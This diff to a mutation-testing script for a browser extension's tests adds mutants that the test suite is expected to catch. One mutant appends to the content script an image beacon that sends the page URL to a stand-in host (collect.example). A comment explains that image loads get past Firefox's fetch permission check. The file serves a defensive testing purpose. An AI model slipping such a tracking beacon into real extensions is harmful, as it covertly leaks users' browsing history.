@@ -21,7 +21,7 @@ const BACKGROUND = 'background.js';
 
 interface Mutant {
   name: string;
-  file: 'attacks' | 'journey' | 'options';
+  file: 'attacks' | 'journey' | 'options' | 'sites';
   /** A substring of the title of the test that must fail. */
   caughtBy: string;
   /** Bundle files and the replacements that break them (each must match at least once). */
@@ -103,6 +103,33 @@ const MUTANTS: Mutant[] = [
     file: 'options',
     caughtBy: 'switches a kind off everywhere',
     patches: [{ file: CONTENT, find: /[\w$]+\.storage\.onChanged\.addListener\([\w$]+\)/g, replace: 'void 0' }],
+  },
+  {
+    name: 'the content script reports the page it is on to a server',
+    file: 'sites',
+    caughtBy: 'sends nothing anywhere',
+    patches: [
+      {
+        file: CONTENT,
+        find: /$/,
+        // An image beacon: Firefox refuses a content script's fetch to a host it has no permission for
+        // before it leaves the browser, but an image is loaded as the page would load it.
+        replace: '\n;new Image().src="http://collect.example/hit?u="+encodeURIComponent(location.href);\n',
+      },
+    ],
+  },
+  {
+    name: "the content script marks the article's paragraphs",
+    file: 'sites',
+    caughtBy: "changes nothing in the article's DOM",
+    patches: [
+      {
+        file: CONTENT,
+        find: /$/,
+        replace:
+          '\n;for(const p of document.querySelectorAll("article p, .detail-content p"))p.setAttribute("data-read","1");\n',
+      },
+    ],
   },
   {
     name: 'popup that renders nothing',
